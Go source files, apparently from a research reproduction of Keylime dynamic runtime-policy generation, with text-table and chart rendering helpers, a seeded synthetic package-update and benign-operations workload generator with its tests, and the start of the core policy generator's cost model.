func (t *Table) AddRow(cells ...string) {
	t.Rows = append(t.Rows, cells)
}

// Render returns the table with aligned columns.
func (t *Table) Render() string {
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = runeLen(h)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && runeLen(cell) > widths[i] {
				widths[i] = runeLen(cell)
			}
		}
	}
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("=", runeLen(t.Title)))
		b.WriteByte('\n')
	}
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(cell)
			if i < len(cells)-1 {
				b.WriteString(strings.Repeat(" ", widths[i]-runeLen(cell)))
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	return b.String()
}

// runeLen counts display runes (the Table II symbols are multi-byte).
func runeLen(s string) int { return len([]rune(s)) }

// Series is a titled sequence of (label, value) points rendered as a
// horizontal bar chart with summary statistics.
type Series struct {
	Title  string
	YLabel string
	Labels []string
	Values []float64
	// Unit renders each value (default "%.2f").
	Unit string
}

// Add appends one point.
func (s *Series) Add(label string, value float64) {
	s.Labels = append(s.Labels, label)
	s.Values = append(s.Values, value)
}

// Render draws the series.
func (s *Series) Render() string {
	unit := s.Unit
	if unit == "" {
		unit = "%.2f"
	}
	var b strings.Builder
	if s.Title != "" {
		b.WriteString(s.Title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("=", runeLen(s.Title)))
		b.WriteByte('\n')
	}
	maxV := 0.0
	maxLabel := 0
	for i, v := range s.Values {
		if v > maxV {
			maxV = v
		}
		if runeLen(s.Labels[i]) > maxLabel {
			maxLabel = runeLen(s.Labels[i])
		}
	}
	const barWidth = 50
	for i, v := range s.Values {
		bar := 0
		if maxV > 0 {
			bar = int(math.Round(v / maxV * barWidth))
		}
		fmt.Fprintf(&b, "%-*s | %-*s %s\n",
			maxLabel, s.Labels[i],
			barWidth, strings.Repeat("#", bar),
			fmt.Sprintf(unit, v))
	}
	fmt.Fprintf(&b, "%s: mean=%s stddev=%s min=%s max=%s n=%d\n",
		s.YLabel,
		fmt.Sprintf(unit, Mean(s.Values)),
		fmt.Sprintf(unit, StdDev(s.Values)),
		fmt.Sprintf(unit, Min(s.Values)),
		fmt.Sprintf(unit, Max(s.Values)),
		len(s.Values))
	return b.String()
}

// Mean returns the arithmetic mean (0 for empty input).
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// StdDev returns the population standard deviation (0 for empty input).
func StdDev(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := Mean(xs)
	sum := 0.0
	for _, x := range xs {
		sum += (x - m) * (x - m)
	}
	return math.Sqrt(sum / float64(len(xs)))
}

// Min returns the minimum (0 for empty input).
func Min(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs[1:] {
		if x < m {
			m = x
		}
	}
	return m
}

// Max returns the maximum (0 for empty input).
func Max(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs[1:] {
		if x > m {
			m = x
		}
	}
	return m
}
