package workload

import "math/rand"

// randNew builds a seeded generator for statistics tests.
func randNew(seed int64) *rand.Rand { return rand.New(rand.NewSource(seed)) }
