package workload

import (
	"crypto/rand"
	"math"
	"testing"
	"time"

	"repro/internal/ima"
	"repro/internal/machine"
	"repro/internal/mirror"
	"repro/internal/tpm"
)

var t0 = time.Date(2024, 2, 26, 5, 0, 0, 0, time.UTC)

const kernel = "5.15.0-100-generic"

func TestBaseReleaseDeterministic(t *testing.T) {
	a := BaseRelease(ScaleSmall(), kernel)
	b := BaseRelease(ScaleSmall(), kernel)
	if len(a) != len(b) {
		t.Fatalf("lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i].Name != b[i].Name || a[i].Version != b[i].Version || len(a[i].Files) != len(b[i].Files) {
			t.Fatalf("package %d differs between runs", i)
		}
	}
}

func TestBaseReleaseIncludesKernel(t *testing.T) {
	rel := BaseRelease(ScaleSmall(), kernel)
	found := false
	for _, p := range rel {
		if p.Name == "linux-image-"+kernel {
			found = true
			if len(p.ExecutableFiles()) < 3 {
				t.Fatalf("kernel package has %d executables", len(p.ExecutableFiles()))
			}
		}
	}
	if !found {
		t.Fatal("base release lacks the running kernel package")
	}
}

func TestBaseReleaseSmallScaleShape(t *testing.T) {
	rel := BaseRelease(ScaleSmall(), kernel)
	if len(rel) != ScaleSmall().Packages+1 {
		t.Fatalf("packages = %d, want %d", len(rel), ScaleSmall().Packages+1)
	}
	execs := 0
	for _, p := range rel {
		execs += len(p.ExecutableFiles())
	}
	// Mean 8 exec/pkg over 60 packages: expect a few hundred.
	if execs < 150 || execs > 1500 {
		t.Fatalf("total executables = %d, outside sane range", execs)
	}
}

func TestStreamCalibrationMatchesPaper(t *testing.T) {
	// Generate many days and verify the long-run statistics against the
	// paper's Table I / Figs 4-5 numbers.
	sc := ScaleSmall()
	archive := mirror.NewArchive()
	base := BaseRelease(sc, kernel)
	if _, err := archive.Publish(t0.Add(-24*time.Hour), base...); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	cfg := DefaultStreamConfig(sc)
	cfg.KernelEveryNDays = 0 // keep the statistics pure
	s := NewStream(archive, base, cfg)

	const days = 400
	var pkgsWithExec, highPri, entries float64
	var perDay []float64
	for d := 0; d < days; d++ {
		upd, err := s.PublishDay(t0.Add(time.Duration(d) * 24 * time.Hour))
		if err != nil {
			t.Fatalf("PublishDay %d: %v", d, err)
		}
		dayCount := 0.0
		for _, p := range upd.Published {
			if !p.HasExecutables() {
				continue
			}
			dayCount++
			pkgsWithExec++
			if p.Priority.High() {
				highPri++
			}
			entries += float64(len(p.ExecutableFiles()))
		}
		perDay = append(perDay, dayCount)
	}
	meanPkgs := pkgsWithExec / days
	if meanPkgs < 10 || meanPkgs > 24 {
		t.Fatalf("mean pkgs/day = %.1f, want near the paper's 16.5", meanPkgs)
	}
	meanHigh := highPri / days
	if meanHigh < 0.3 || meanHigh > 2.0 {
		t.Fatalf("mean high-priority/day = %.2f, want near the paper's 0.9", meanHigh)
	}
	meanEntries := entries / days
	if meanEntries < 700 || meanEntries > 2100 {
		t.Fatalf("mean entries/day = %.0f, want near the paper's 1271", meanEntries)
	}
	// Heavy tail: the std deviation should exceed the mean (paper: σ 26.8
	// vs mean 16.5).
	var varSum float64
	for _, v := range perDay {
		varSum += (v - meanPkgs) * (v - meanPkgs)
	}
	stddev := math.Sqrt(varSum / days)
	if stddev < meanPkgs*0.8 {
		t.Fatalf("stddev = %.1f for mean %.1f; update sizes should be heavy-tailed", stddev, meanPkgs)
	}
}

func TestStreamPublishesKernels(t *testing.T) {
	sc := ScaleSmall()
	archive := mirror.NewArchive()
	base := BaseRelease(sc, kernel)
	if _, err := archive.Publish(t0.Add(-24*time.Hour), base...); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	cfg := DefaultStreamConfig(sc)
	cfg.KernelEveryNDays = 5
	s := NewStream(archive, base, cfg)
	kernels := 0
	for d := 0; d < 15; d++ {
		upd, err := s.PublishDay(t0.Add(time.Duration(d) * 24 * time.Hour))
		if err != nil {
			t.Fatalf("PublishDay: %v", err)
		}
		if upd.NewKernel != "" {
			kernels++
		}
	}
	if kernels != 3 {
		t.Fatalf("kernels published = %d over 15 days with period 5, want 3", kernels)
	}
}

func TestStreamVersionsAlwaysAdvance(t *testing.T) {
	sc := ScaleSmall()
	archive := mirror.NewArchive()
	base := BaseRelease(sc, kernel)
	if _, err := archive.Publish(t0.Add(-24*time.Hour), base...); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	s := NewStream(archive, base, DefaultStreamConfig(sc))
	// Publishing must never collide with an existing version (the archive
	// rejects stale versions).
	for d := 0; d < 60; d++ {
		if _, err := s.PublishDay(t0.Add(time.Duration(d) * 24 * time.Hour)); err != nil {
			t.Fatalf("PublishDay %d: %v", d, err)
		}
	}
}

func newWorkloadMachine(t *testing.T) *machine.Machine {
	t.Helper()
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	m, err := machine.New(ca, machine.WithTPMOptions(tpm.WithEKBits(1024)), machine.WithKernel(kernel))
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	return m
}

func TestBenignOpsRunAgainstInstalledMachine(t *testing.T) {
	m := newWorkloadMachine(t)
	base := BaseRelease(ScaleSmall(), kernel)
	for _, p := range base {
		if err := m.InstallPackage(p); err != nil {
			t.Fatalf("InstallPackage: %v", err)
		}
	}
	b, err := NewBenignOps(m, DefaultBenignOpsConfig(7))
	if err != nil {
		t.Fatalf("NewBenignOps: %v", err)
	}
	counts, err := b.Run(300)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if counts.Execs == 0 || counts.Opens == 0 || counts.Scripts == 0 {
		t.Fatalf("op mix incomplete: %+v", counts)
	}
	// Benign execs generate measurements.
	if m.IMA().Len() < 10 {
		t.Fatalf("IMA log after benign ops = %d entries, want many", m.IMA().Len())
	}
	// Scripts run by direct shebang invocation: the script files appear.
	foundScript := false
	for _, e := range m.IMA().Entries(0) {
		if e.Path == "/usr/local/scripts/task0.sh" || e.Path == "/usr/local/scripts/task1.sh" ||
			e.Path == "/usr/local/scripts/task2.sh" || e.Path == "/usr/local/scripts/task3.sh" {
			foundScript = true
		}
	}
	if !foundScript && counts.Scripts > 0 {
		t.Fatal("script execution left no measurement")
	}
	_ = ima.BootAggregatePath
}

func TestBenignOpsDeterministic(t *testing.T) {
	run := func() (OpCounts, int) {
		m := newWorkloadMachine(t)
		for _, p := range BaseRelease(ScaleSmall(), kernel) {
			if err := m.InstallPackage(p); err != nil {
				t.Fatalf("InstallPackage: %v", err)
			}
		}
		b, err := NewBenignOps(m, DefaultBenignOpsConfig(42))
		if err != nil {
			t.Fatalf("NewBenignOps: %v", err)
		}
		c, err := b.Run(100)
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
		return c, m.IMA().Len()
	}
	c1, l1 := run()
	c2, l2 := run()
	if c1 != c2 || l1 != l2 {
		t.Fatalf("benign ops not deterministic: %+v/%d vs %+v/%d", c1, l1, c2, l2)
	}
}

func TestRecatalogPicksUpNewFiles(t *testing.T) {
	m := newWorkloadMachine(t)
	for _, p := range BaseRelease(ScaleSmall(), kernel) {
		if err := m.InstallPackage(p); err != nil {
			t.Fatalf("InstallPackage: %v", err)
		}
	}
	b, err := NewBenignOps(m, DefaultBenignOpsConfig(1))
	if err != nil {
		t.Fatalf("NewBenignOps: %v", err)
	}
	before := len(b.execs)
	newPkg := KernelPackage("9.9.9-test", "1")
	newPkg.Files[0].Path = "/usr/bin/brand-new-tool"
	if err := m.InstallPackage(newPkg); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	if err := b.Recatalog(); err != nil {
		t.Fatalf("Recatalog: %v", err)
	}
	if len(b.execs) <= before {
		t.Fatalf("catalog did not grow: %d -> %d", before, len(b.execs))
	}
}

func TestLognormalMeanApproximate(t *testing.T) {
	rng := randNew(123)
	const n = 20000
	var sum float64
	for i := 0; i < n; i++ {
		sum += lognormal(rng, 16.5, 1.62)
	}
	mean := sum / n
	if mean < 13 || mean > 20 {
		t.Fatalf("lognormal sample mean = %.2f, want ≈16.5", mean)
	}
}

func TestClampInt(t *testing.T) {
	if got := clampInt(-3, 0, 10); got != 0 {
		t.Fatalf("clampInt(-3) = %d", got)
	}
	if got := clampInt(99, 0, 10); got != 10 {
		t.Fatalf("clampInt(99) = %d", got)
	}
	if got := clampInt(5.4, 0, 10); got != 5 {
		t.Fatalf("clampInt(5.4) = %d", got)
	}
}
