// Package workload generates the synthetic workloads driving the paper's
// experiments:
//
//   - a base OS release (the day-one state of the mirror), sized either for
//     fast tests or at paper scale (a ~323k-entry initial policy);
//   - a daily update stream calibrated to the statistics the paper
//     measured on Ubuntu 22.04 between Feb 26 and Mar 28 2024: a mean of
//     16.5 packages-with-executables per daily update (σ 26.8), 0.9 of
//     them high-priority (σ 2.2), and ~1,271 new policy entries per day;
//   - the benign-operations mix (navigating the filesystem, opening and
//     closing files, launching scripts, executing binaries) used in the
//     false-positive week.
//
// All randomness is drawn from seeded generators, so runs are reproducible.
package workload

import (
	"fmt"
	"math"
	"math/rand"
	"time"

	"repro/internal/machine"
	"repro/internal/mirror"
	"repro/internal/vfs"
)

// Scale sizes the synthetic distribution.
type Scale struct {
	// Packages in the base release.
	Packages int
	// MeanExecPerPkg is the mean executable files per package
	// (heavy-tailed; most packages ship a handful, some ship hundreds).
	MeanExecPerPkg float64
	// MeanDataPerPkg is the mean non-executable files per package.
	MeanDataPerPkg float64
	// MeanFileSize is the mean synthetic file size in bytes.
	MeanFileSize float64
	// Seed makes the release deterministic.
	Seed int64
}

// ScaleSmall is the default test scale (hundreds of policy entries).
func ScaleSmall() Scale {
	return Scale{Packages: 60, MeanExecPerPkg: 8, MeanDataPerPkg: 4, MeanFileSize: 512, Seed: 1}
}

// ScalePaper approximates the paper's numbers: the initial policy lands
// around 323,734 lines (±2%; ~324k measured with seed 1).
func ScalePaper() Scale {
	return Scale{Packages: 4800, MeanExecPerPkg: 69.2, MeanDataPerPkg: 10, MeanFileSize: 2048, Seed: 1}
}

// lognormal draws a lognormal sample with the given mean and coefficient of
// variation.
func lognormal(rng *rand.Rand, mean, cv float64) float64 {
	if mean <= 0 {
		return 0
	}
	sigma2 := math.Log(1 + cv*cv)
	mu := math.Log(mean) - sigma2/2
	return math.Exp(mu + math.Sqrt(sigma2)*rng.NormFloat64())
}

// clampInt converts a float to an int bounded to [lo, hi].
func clampInt(f float64, lo, hi int) int {
	n := int(math.Round(f))
	if n < lo {
		return lo
	}
	if n > hi {
		return hi
	}
	return n
}

// priorityFor draws a Debian priority with a realistic skew: a few percent
// of packages are high priority, the bulk optional/extra.
func priorityFor(rng *rand.Rand) mirror.Priority {
	switch r := rng.Float64(); {
	case r < 0.005:
		return mirror.PriorityEssential
	case r < 0.02:
		return mirror.PriorityRequired
	case r < 0.04:
		return mirror.PriorityImportant
	case r < 0.055: // ~5.5% high total: matches 0.9/16.5 in the stream
		return mirror.PriorityStandard
	case r < 0.75:
		return mirror.PriorityOptional
	default:
		return mirror.PriorityExtra
	}
}

// installDirs are where synthetic executables land, weighted roughly like a
// real filesystem.
var installDirs = []string{
	"/usr/bin", "/usr/bin", "/usr/bin",
	"/usr/sbin",
	"/usr/lib", "/usr/lib",
	"/usr/libexec",
	"/bin", "/sbin",
	"/usr/lib/x86_64-linux-gnu",
}

// makeFiles builds the file list for one package version.
func makeFiles(rng *rand.Rand, name string, sc Scale, execs, datas int) []mirror.PackageFile {
	files := make([]mirror.PackageFile, 0, execs+datas)
	for i := 0; i < execs; i++ {
		dir := installDirs[rng.Intn(len(installDirs))]
		size := clampInt(lognormal(rng, sc.MeanFileSize, 1.0), 64, 64<<10)
		files = append(files, mirror.PackageFile{
			Path: fmt.Sprintf("%s/%s-bin%d", dir, name, i),
			Mode: vfs.ModeExecutable,
			Size: size,
		})
	}
	for i := 0; i < datas; i++ {
		size := clampInt(lognormal(rng, sc.MeanFileSize, 1.0), 16, 64<<10)
		files = append(files, mirror.PackageFile{
			Path: fmt.Sprintf("/usr/share/%s/data%d", name, i),
			Mode: vfs.ModeRegular,
			Size: size,
		})
	}
	return files
}

// suiteFor assigns a suite: base packages live in Main; the stream marks
// updates as Security or Updates.
func suiteFor(rng *rand.Rand, update bool) mirror.Suite {
	if !update {
		return mirror.SuiteMain
	}
	if rng.Float64() < 0.3 {
		return mirror.SuiteSecurity
	}
	return mirror.SuiteUpdates
}

// BaseRelease generates the day-one package set for the given scale,
// including one kernel image package for the running kernel.
func BaseRelease(sc Scale, runningKernel string) []mirror.Package {
	rng := rand.New(rand.NewSource(sc.Seed))
	pkgs := make([]mirror.Package, 0, sc.Packages+1)
	for i := 0; i < sc.Packages; i++ {
		name := fmt.Sprintf("pkg%04d", i)
		execs := clampInt(lognormal(rng, sc.MeanExecPerPkg, 1.2), 0, 900)
		datas := clampInt(lognormal(rng, sc.MeanDataPerPkg, 1.0), 0, 200)
		pkgs = append(pkgs, mirror.Package{
			Name:     name,
			Version:  "1.0-1",
			Suite:    suiteFor(rng, false),
			Priority: priorityFor(rng),
			Files:    makeFiles(rng, name, sc, execs, datas),
		})
	}
	pkgs = append(pkgs, KernelPackage(runningKernel, "1"))
	return pkgs
}

// KernelPackage builds a linux-image package for the given kernel version.
func KernelPackage(kernelVersion, pkgRevision string) mirror.Package {
	files := []mirror.PackageFile{
		{Path: "/boot/vmlinuz-" + kernelVersion, Mode: vfs.ModeExecutable, Size: 8 << 10},
		{Path: "/boot/config-" + kernelVersion, Mode: vfs.ModeRegular, Size: 1 << 10},
	}
	for _, mod := range []string{"kernel/fs/ext4.ko", "kernel/net/ipv6.ko", "kernel/drivers/virtio.ko"} {
		files = append(files, mirror.PackageFile{
			Path: "/usr/lib/modules/" + kernelVersion + "/" + mod,
			Mode: vfs.ModeExecutable,
			Size: 4 << 10,
		})
	}
	return mirror.Package{
		Name:     "linux-image-" + kernelVersion,
		Version:  kernelVersion + "." + pkgRevision,
		Suite:    mirror.SuiteUpdates,
		Priority: mirror.PriorityOptional,
		Files:    files,
	}
}

// StreamConfig calibrates the daily update stream.
type StreamConfig struct {
	Seed int64
	// MeanPkgsPerDay / PkgsCV control the heavy-tailed count of updated
	// packages-with-executables per day (paper: 16.5, σ 26.8 → CV≈1.6).
	MeanPkgsPerDay float64
	PkgsCV         float64
	// HighPriorityFraction of updated packages (paper: 0.9/16.5 ≈ 5.5%).
	HighPriorityFraction float64
	// MeanExecPerUpdatedPkg drives entries/day (paper: 1271/16.5 ≈ 77).
	MeanExecPerUpdatedPkg float64
	// NewPackageFraction of updates that introduce a brand-new package.
	NewPackageFraction float64
	// KernelEveryNDays publishes a new kernel image every N days (0 = never).
	KernelEveryNDays int
	// Scale reuses the base release's size parameters for file shapes.
	Scale Scale
}

// DefaultStreamConfig matches the paper's daily-update statistics.
func DefaultStreamConfig(sc Scale) StreamConfig {
	return StreamConfig{
		Seed:                  sc.Seed + 1000,
		MeanPkgsPerDay:        16.5,
		PkgsCV:                1.62,
		HighPriorityFraction:  0.055,
		MeanExecPerUpdatedPkg: 77,
		NewPackageFraction:    0.15,
		KernelEveryNDays:      14,
		Scale:                 sc,
	}
}

// Stream publishes daily batches of package updates into an archive.
// Construct with NewStream.
type Stream struct {
	cfg      StreamConfig
	rng      *rand.Rand
	archive  *mirror.Archive
	names    []string
	versions map[string]int
	kernelN  int
	day      int
}

// NewStream creates a stream over an archive already holding baseRelease.
func NewStream(archive *mirror.Archive, baseRelease []mirror.Package, cfg StreamConfig) *Stream {
	s := &Stream{
		cfg:      cfg,
		rng:      rand.New(rand.NewSource(cfg.Seed)),
		archive:  archive,
		versions: make(map[string]int, len(baseRelease)),
	}
	for _, p := range baseRelease {
		if p.IsKernelImage() {
			continue
		}
		s.names = append(s.names, p.Name)
		s.versions[p.Name] = 1
	}
	return s
}

// DayUpdate describes what one day's publication contained.
type DayUpdate struct {
	Day       int
	Published []mirror.Package
	// NewKernel is the kernel version published today ("" if none).
	NewKernel string
}

// PublishDay draws and publishes one day's updates. Days with zero package
// updates occur naturally from the heavy-tailed draw.
func (s *Stream) PublishDay(at time.Time) (DayUpdate, error) {
	s.day++
	count := clampInt(lognormal(s.rng, s.cfg.MeanPkgsPerDay, s.cfg.PkgsCV), 0, 250)
	// ~15% of days see no updates at all (quiet weekend days).
	if s.rng.Float64() < 0.15 {
		count = 0
	}
	upd := DayUpdate{Day: s.day}
	seen := map[string]bool{}
	for i := 0; i < count; i++ {
		var name string
		if s.rng.Float64() < s.cfg.NewPackageFraction {
			name = fmt.Sprintf("pkg-new-%04d", len(s.names))
			s.names = append(s.names, name)
			s.versions[name] = 0
		} else {
			// Redraw on collision so small catalogs still produce the
			// calibrated per-day counts; fall back to a new package when
			// the catalog is almost exhausted for the day.
			for tries := 0; ; tries++ {
				name = s.names[s.rng.Intn(len(s.names))]
				if !seen[name] {
					break
				}
				if tries >= 8 {
					name = fmt.Sprintf("pkg-new-%04d", len(s.names))
					s.names = append(s.names, name)
					s.versions[name] = 0
					break
				}
			}
		}
		seen[name] = true
		s.versions[name]++
		execs := clampInt(lognormal(s.rng, s.cfg.MeanExecPerUpdatedPkg, 1.3), 1, 1200)
		datas := clampInt(lognormal(s.rng, s.cfg.Scale.MeanDataPerPkg, 1.0), 0, 100)
		prio := mirror.PriorityOptional
		if s.rng.Float64() < s.cfg.HighPriorityFraction {
			prio = []mirror.Priority{
				mirror.PriorityEssential, mirror.PriorityRequired,
				mirror.PriorityImportant, mirror.PriorityStandard,
			}[s.rng.Intn(4)]
		} else if s.rng.Float64() < 0.3 {
			prio = mirror.PriorityExtra
		}
		upd.Published = append(upd.Published, mirror.Package{
			Name:     name,
			Version:  fmt.Sprintf("1.0-%d", s.versions[name]),
			Suite:    suiteFor(s.rng, true),
			Priority: prio,
			Files:    makeFiles(s.rng, name, s.cfg.Scale, execs, datas),
		})
	}
	if s.cfg.KernelEveryNDays > 0 && s.day%s.cfg.KernelEveryNDays == 0 {
		s.kernelN++
		ver := fmt.Sprintf("5.15.0-%d-generic", 100+s.kernelN)
		upd.Published = append(upd.Published, KernelPackage(ver, "1"))
		upd.NewKernel = ver
	}
	if len(upd.Published) > 0 {
		if _, err := s.archive.Publish(at, upd.Published...); err != nil {
			return DayUpdate{}, fmt.Errorf("workload: publishing day %d: %w", s.day, err)
		}
	}
	return upd, nil
}

// BenignOpsConfig calibrates the benign operation mix.
type BenignOpsConfig struct {
	Seed int64
	// Weights of each operation class; they need not sum to 1.
	ExecWeight, OpenWeight, ScriptWeight, WalkWeight float64
}

// DefaultBenignOpsConfig mirrors the paper's normal-operations description.
func DefaultBenignOpsConfig(seed int64) BenignOpsConfig {
	return BenignOpsConfig{Seed: seed, ExecWeight: 0.55, OpenWeight: 0.25, ScriptWeight: 0.15, WalkWeight: 0.05}
}

// BenignOps drives a machine through normal operations. Construct with
// NewBenignOps after the machine's packages are installed.
type BenignOps struct {
	cfg     BenignOpsConfig
	rng     *rand.Rand
	m       *machine.Machine
	execs   []string
	regular []string
	scripts []string
}

// NewBenignOps catalogs the machine's files and prepares the op mix. It
// installs a small set of admin scripts (with shebangs) under
// /usr/local/scripts, mirroring the "launching scripts to perform tasks"
// part of the paper's workload.
func NewBenignOps(m *machine.Machine, cfg BenignOpsConfig) (*BenignOps, error) {
	b := &BenignOps{cfg: cfg, rng: rand.New(rand.NewSource(cfg.Seed)), m: m}
	// Admin scripts need an interpreter on disk.
	if !m.FS().Exists("/bin/sh") {
		if err := m.WriteFile("/bin/sh", []byte("\x7fELF-dash"), vfs.ModeExecutable); err != nil {
			return nil, fmt.Errorf("workload: installing /bin/sh: %w", err)
		}
	}
	for i := 0; i < 4; i++ {
		p := fmt.Sprintf("/usr/local/scripts/task%d.sh", i)
		content := fmt.Sprintf("#!/bin/sh\necho task %d\n", i)
		if err := m.WriteFile(p, []byte(content), vfs.ModeExecutable); err != nil {
			return nil, fmt.Errorf("workload: installing script: %w", err)
		}
		b.scripts = append(b.scripts, p)
	}
	if err := b.Recatalog(); err != nil {
		return nil, err
	}
	return b, nil
}

// Recatalog rescans the machine for executables and regular files; call it
// after system updates change the file population.
func (b *BenignOps) Recatalog() error {
	b.execs = b.execs[:0]
	b.regular = b.regular[:0]
	err := b.m.FS().Walk("/usr", func(info vfs.FileInfo) error {
		if info.Mode.IsExec() {
			b.execs = append(b.execs, info.Path)
		} else {
			b.regular = append(b.regular, info.Path)
		}
		return nil
	})
	if err != nil {
		return fmt.Errorf("workload: cataloging machine: %w", err)
	}
	return nil
}

// OpCounts tallies operations performed.
type OpCounts struct {
	Execs, Opens, Scripts, Walks int
}

// Step performs one random benign operation.
func (b *BenignOps) Step() (OpCounts, error) {
	var c OpCounts
	total := b.cfg.ExecWeight + b.cfg.OpenWeight + b.cfg.ScriptWeight + b.cfg.WalkWeight
	r := b.rng.Float64() * total
	switch {
	case r < b.cfg.ExecWeight && len(b.execs) > 0:
		p := b.execs[b.rng.Intn(len(b.execs))]
		if err := b.m.Exec(p); err != nil {
			return c, fmt.Errorf("workload: benign exec %s: %w", p, err)
		}
		c.Execs++
	case r < b.cfg.ExecWeight+b.cfg.OpenWeight && len(b.regular) > 0:
		p := b.regular[b.rng.Intn(len(b.regular))]
		if err := b.m.OpenRead(p); err != nil {
			return c, fmt.Errorf("workload: benign open %s: %w", p, err)
		}
		c.Opens++
	case r < b.cfg.ExecWeight+b.cfg.OpenWeight+b.cfg.ScriptWeight && len(b.scripts) > 0:
		p := b.scripts[b.rng.Intn(len(b.scripts))]
		if err := b.m.Exec(p); err != nil {
			return c, fmt.Errorf("workload: benign script %s: %w", p, err)
		}
		c.Scripts++
	default:
		// Navigate the filesystem: stat a handful of entries.
		n := 0
		err := b.m.FS().Walk("/usr/bin", func(vfs.FileInfo) error {
			n++
			if n >= 10 {
				return errStopWalk
			}
			return nil
		})
		if err != nil && err != errStopWalk {
			return c, fmt.Errorf("workload: benign walk: %w", err)
		}
		c.Walks++
	}
	return c, nil
}

// Run performs n benign operations and returns the tallies.
func (b *BenignOps) Run(n int) (OpCounts, error) {
	var total OpCounts
	for i := 0; i < n; i++ {
		c, err := b.Step()
		if err != nil {
			return total, err
		}
		total.Execs += c.Execs
		total.Opens += c.Opens
		total.Scripts += c.Scripts
		total.Walks += c.Walks
	}
	return total, nil
}

// errStopWalk terminates a bounded walk early.
var errStopWalk = fmt.Errorf("workload: stop walk")
