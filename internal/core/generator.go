// Package core implements the paper's primary contribution: dynamic policy
// generation for Keylime (§III-C).
//
// The scheme couples a data-center-controlled update schedule with a local
// mirror of the OS distribution. Before a machine installs updates, the
// generator refreshes the mirror, detects added/changed packages, downloads
// and uncompresses each package payload, hashes its executable files, and
// appends the new digests to the existing runtime policy. Existing entries
// are retained during the update window so attestation never fails while
// old and new file versions coexist; outdated hashes are deduplicated after
// the update completes.
//
// Kernel packages are handled specially: a machine may have many kernels
// installed, but only the running kernel's modules belong in the policy.
// A newly installed kernel does not run until reboot, so its files are
// deferred and added by RefreshKernel just before the machine reboots.
package core

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"regexp"
	"runtime"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/mirror"
	"repro/internal/policy"
	"repro/internal/vfs"
)

// Sentinel errors.
var (
	ErrNoPolicy = errors.New("core: no policy generated yet")
)

// CostModel maps the mechanical work of a policy update (packages fetched,
// bytes decompressed and hashed) onto modeled wall-clock time, calibrated
// against the paper's measurements (2.36 min mean for daily updates of
// 16.5 packages / 1,271 file entries; 7.50 min for weekly updates of 79
// packages / 5,513 entries).
type CostModel struct {
	// MirrorSyncBase is the fixed cost of refreshing the mirror metadata.
	MirrorSyncBase time.Duration
	// PerPackage is the fixed cost per changed package (fetch, apt
	// metadata, unpack setup).
	PerPackage time.Duration
	// PerFile is the fixed cost per measured executable (open, stat,
	// write-back of the policy entry).
	PerFile time.Duration
	// DownloadBytesPerSecond models mirror-to-generator bandwidth.
	DownloadBytesPerSecond float64
	// HashBytesPerSecond models decompress+SHA-256 throughput.
	HashBytesPerSecond float64
}

// DefaultCostModel returns constants calibrated to the paper (see above).
func DefaultCostModel() CostModel {
	return CostModel{
		MirrorSyncBase:         45 * time.Second,
		PerPackage:             3 * time.Second,
		PerFile:                37 * time.Millisecond,
		DownloadBytesPerSecond: 40 << 20, // 40 MB/s mirror link
		HashBytesPerSecond:     400 << 20,
	}
}

// cost computes the modeled duration for an update touching the given
// packages and measuring the given number of executable files/bytes.
func (c CostModel) cost(pkgs int, payloadBytes int64, files int, hashedBytes int64) time.Duration {
	d := c.MirrorSyncBase
	d += time.Duration(pkgs) * c.PerPackage
	d += time.Duration(files) * c.PerFile
	if c.DownloadBytesPerSecond > 0 {
		d += time.Duration(float64(payloadBytes) / c.DownloadBytesPerSecond * float64(time.Second))
	}
	if c.HashBytesPerSecond > 0 {
		d += time.Duration(float64(hashedBytes) / c.HashBytesPerSecond * float64(time.Second))
	}
	return d
}

// UpdateReport summarizes one policy generation/update run — the quantities
// behind the paper's Figures 3-5 and Table I.
type UpdateReport struct {
	// Time is when the update ran.
	Time time.Time
	// PackagesChanged counts added+changed packages in the mirror delta.
	PackagesChanged int
	// PackagesWithExecutables counts delta packages shipping executables
	// (what Fig. 4 plots).
	PackagesWithExecutables int
	// HighPriority / LowPriority split PackagesWithExecutables by Debian
	// priority bucket.
	HighPriority int
	LowPriority  int
	// EntriesAdded is the number of new policy lines (Fig. 5).
	EntriesAdded int
	// BytesAdded is the policy size growth in flat-format bytes.
	BytesAdded int64
	// FilesMeasured counts the executables actually downloaded and hashed
	// this run (deferred-kernel files are skipped and not billed).
	FilesMeasured int
	// ModeledDuration is the cost-model wall time (Fig. 3).
	ModeledDuration time.Duration
	// MeasuredWallTime is how long the generator actually ran.
	MeasuredWallTime time.Duration
	// Workers is the measurement worker-pool size used for this run.
	Workers int
	// DeferredKernels lists kernel versions seen in the delta but not yet
	// running (their files enter the policy at RefreshKernel time).
	DeferredKernels []string
}

// Option configures the generator.
type Option interface{ apply(*Generator) }

type optionFunc func(*Generator)

func (f optionFunc) apply(g *Generator) { f(g) }

